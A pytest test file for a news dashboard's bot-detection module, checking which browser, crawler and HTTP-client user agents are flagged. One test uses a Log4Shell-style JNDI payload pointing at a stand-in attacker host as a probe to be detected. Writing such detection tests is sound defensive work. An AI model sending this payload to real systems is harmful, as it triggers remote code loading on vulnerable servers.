"""Bot detection (etl/bots.py) as PRODUCT.md states it: crawlers are flagged, people are not,
an empty user agent is not a bot. The user agents below are written for these tests."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from newsdash.etl import bots
from newsdash.etl.bots import bot_rule, classify_agents, is_bot_agent

CORPUS = Path(__file__).resolve().parents[1] / ".." / "shared" / "corpus" / "ua_labelled.csv"

IPHONE_SAFARI = (
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15"
    " (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1"
)
WINDOWS_CHROME = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko)"
    " Chrome/126.0.0.0 Safari/537.36"
)
ANDROID_WEBVIEW = (
    "Mozilla/5.0 (Linux; Android 14; SM-S921N Build/UP1A.231005.007; wv) AppleWebKit/537.36"
    " (KHTML, like Gecko) Version/4.0 Chrome/124.0.6367.82 Mobile Safari/537.36"
)

PEOPLE = {
    "mobile_safari": IPHONE_SAFARI,
    "desktop_chrome": WINDOWS_CHROME,
    "desktop_firefox": "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "samsung_internet": (
        "Mozilla/5.0 (Linux; Android 14; SM-S921N) AppleWebKit/537.36 (KHTML, like Gecko)"
        " SamsungBrowser/25.0 Chrome/121.0.0.0 Mobile Safari/537.36"
    ),
    "naver_whale": WINDOWS_CHROME.replace("Safari", "Whale/3.26.244.21 Safari"),
    "kakaotalk_inapp": ANDROID_WEBVIEW + ";KAKAOTALK 2410200",
    "naver_app_inapp": (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15"
        " (KHTML, like Gecko) Mobile/15E148 NAVER(inapp; search; 2000; 12.3.1; 15PRO)"
    ),
    "facebook_inapp": ANDROID_WEBVIEW + " MetaIAB Facebook",
    "instagram_inapp_on_a_listed_firmware": (
        ANDROID_WEBVIEW.replace("SM-S921N Build/UP1A.231005.007", "CPH2609 Build/AP3A.240617.008")
        + " Instagram 350.0.0.41.93 Android (34/14; 480dpi; 1080x2412; OPPO; CPH2609)"
    ),
    "cubot_phone": (
        "Mozilla/5.0 (Linux; Android 13; CUBOT KINGKONG 9) AppleWebKit/537.36"
        " (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36"
    ),
    "sogou_mobile_browser": ANDROID_WEBVIEW + " SogouMSE,SogouMobileBrowser/5.30.1",
    "ios_news_app": "NewsApp/5.2.1 CFNetwork/1494.0.7 Darwin/23.4.0",
    "android_news_app": "Dalvik/2.1.0 (Linux; U; Android 14; SM-S921N Build/UP1A.231005.007)",
}


@pytest.mark.parametrize("user_agent", PEOPLE.values(), ids=PEOPLE.keys())
def test_people_are_not_bots(user_agent):
    assert bot_rule(user_agent) is None


@pytest.mark.parametrize("user_agent", [None, "", "   "])
def test_empty_user_agent_is_not_bot(user_agent):
    assert is_bot_agent(user_agent) is False


def test_mobile_safari_is_not_bot():
    assert not is_bot_agent(IPHONE_SAFARI)


def test_kakaotalk_inapp_browser_is_not_bot():
    assert not is_bot_agent(PEOPLE["kakaotalk_inapp"])


def test_facebook_inapp_browser_is_not_bot_although_the_list_names_it():
    assert not is_bot_agent(PEOPLE["facebook_inapp"])


def test_googlebot_is_bot():
    assert is_bot_agent("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")


def test_googlebot_smartphone_posing_as_chrome_is_bot():
    ua = ANDROID_WEBVIEW + " (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
    assert is_bot_agent(ua)


def test_naver_yeti_is_bot():
    assert is_bot_agent("Mozilla/5.0 (compatible; Yeti/1.1; +https://naver.me/spd)")


def test_daum_crawler_is_bot():
    assert is_bot_agent("Mozilla/5.0 (compatible; Daum/4.1; +http://cs.daum.net/faq/15/4118.html)")


def test_kakaotalk_link_preview_is_bot():
    assert bot_rule("kakaotalk-scrap/1.0; +https://devtalk.kakao.com/t/scrap/33984") is not None


def test_python_requests_is_bot():
    assert bot_rule("python-requests/2.32.3") == "http-client"


@pytest.mark.parametrize(
    "user_agent",
    [
        "curl/8.7.1",
        "Wget/1.21.4",
        "Go-http-client/2.0",
        "Java/17.0.2",
        "Apache-HttpClient/4.5.14 (Java/17.0.2)",
        "axios/1.7.2",
        "python-httpx/0.27.0",
    ],
)
def test_http_client_libraries_are_bots(user_agent):
    assert bot_rule(user_agent) == "http-client"


def test_bare_okhttp_is_bot_as_the_list_says():
    """The list flags okhttp; a news app posting its own events with okhttp would need a UA."""
    assert bot_rule("okhttp/4.12.0") == "crawler-list"


def test_headless_chrome_is_bot():
    ua = WINDOWS_CHROME.replace("Chrome/", "HeadlessChrome/")
    assert bot_rule(ua) == "automation"


def test_uptime_monitor_is_bot():
    assert is_bot_agent("Mozilla/5.0 (compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)")


def test_feed_reader_counting_subscribers_is_bot():
    assert bot_rule("NewsPoller/3.1 (42 subscribers)") == "feed-reader"


def test_unknown_client_leaving_a_contact_url_is_bot():
    assert bot_rule("NewsHarvest/2.1 (+https://harvest.example.net/about)") == "contact"


def test_unknown_client_leaving_an_email_address_is_bot():
    assert bot_rule("SiteWatch/3.0 (ops@example.net)") == "contact"


def test_google_service_fetcher_is_bot():
    ua = ANDROID_WEBVIEW.replace("like Gecko", "like Gecko; Google-Read-Aloud")
    assert bot_rule(ua) == "google-service"


def test_link_preview_is_bot():
    assert bot_rule("LinkPreviewer/1.0") == "preview"


def test_log4j_probe_is_bot():
    assert bot_rule("${jndi:ldap://attacker.example/a}") == "security-tool"


@pytest.mark.parametrize(
    "user_agent", ["Mozilla/5.0", "Mozilla/5.0 (compatible; Acme/1.0)", "default", "abc 123"]
)
def test_user_agent_shaped_like_no_browser_is_bot(user_agent):
    assert bot_rule(user_agent) == "not-a-client"


def test_facebook_link_fetcher_is_caught_by_the_maintained_list():
    assert bot_rule("facebookexternalhit/1.1") == "crawler-list"


def test_bot_word_must_end_the_word():
    assert not is_bot_agent(WINDOWS_CHROME.replace("Win64; x64", "Win64; x64; Caboto"))
    assert is_bot_agent("AcmeBot/1.0")


def test_lone_surrogate_in_user_agent_is_classified():
    assert bot_rule(WINDOWS_CHROME + " \udcff") is None
    assert bot_rule("curl/8.7.1 \udcff") == "http-client"


def test_classify_agents_classifies_each_distinct_agent_once(monkeypatch):
    seen = []
    monkeypatch.setattr(bots, "is_bot_agent", lambda ua: seen.append(ua) or ua == "curl/8.7.1")
    verdicts = classify_agents(["curl/8.7.1", IPHONE_SAFARI, None, "curl/8.7.1", "", None])
    assert verdicts == {"curl/8.7.1": True, IPHONE_SAFARI: False, None: False, "": False}
    assert seen == ["curl/8.7.1", IPHONE_SAFARI, None, ""]


def test_classify_agents_gives_real_verdicts():
    assert classify_agents([IPHONE_SAFARI, "curl/8.7.1", None]) == {
        IPHONE_SAFARI: False,
        "curl/8.7.1": True,
        None: False,
    }


def _labelled_corpus() -> dict[str, set[str]]:
    if not CORPUS.exists():
        pytest.skip(f"labelled user agents not found at {CORPUS}")
    labels: dict[str, set[str]] = {}
    with CORPUS.open(newline="", encoding="utf-8") as f:
        for row in csv.DictReader(f):
            labels.setdefault(row["user_agent"], set()).add(row["label"])
    return labels


def _forget_compiled_patterns():
    bots._generic_signs.cache_clear()
    bots._crawler_list.cache_clear()


def test_python_re_gives_the_same_answers_as_re2(monkeypatch):
    """Without google-re2 the same patterns run on Python's `re`: slower, same answers."""
    pytest.importorskip("re2")
    agents = [*PEOPLE.values(), "python-requests/2.32.3", "facebookexternalhit/1.1", "abc"]
    if CORPUS.exists():
        agents += list(_labelled_corpus())
    with_re2 = [bot_rule(ua) for ua in agents]
    monkeypatch.setattr(bots, "_import_re2", lambda: None)
    _forget_compiled_patterns()
    try:
        with_re = [bot_rule(ua) for ua in agents]
    finally:
        monkeypatch.undo()
        _forget_compiled_patterns()
    assert with_re == with_re2


def test_recall_and_browser_flag_rate_on_labelled_corpus():
    """Editors expect >= 95% of bots caught and <= 1% of browsers flagged. User agents that
    carry both labels (sources disagree: in-app browsers, editors' Electron apps) count for
    neither side."""
    labels = _labelled_corpus()
    bots_ = [ua for ua, seen in labels.items() if seen == {"bot"}]
    browsers = [ua for ua, seen in labels.items() if seen == {"browser"}]
    verdicts = classify_agents([*bots_, *browsers])
    recall = sum(verdicts[ua] for ua in bots_) / len(bots_)
    flag_rate = sum(verdicts[ua] for ua in browsers) / len(browsers)
    figures = f"recall {recall:.4f} on {len(bots_)} bots, {flag_rate:.4f} of {len(browsers)}"
    assert recall >= 0.95, figures
    assert flag_rate <= 0.01, figures
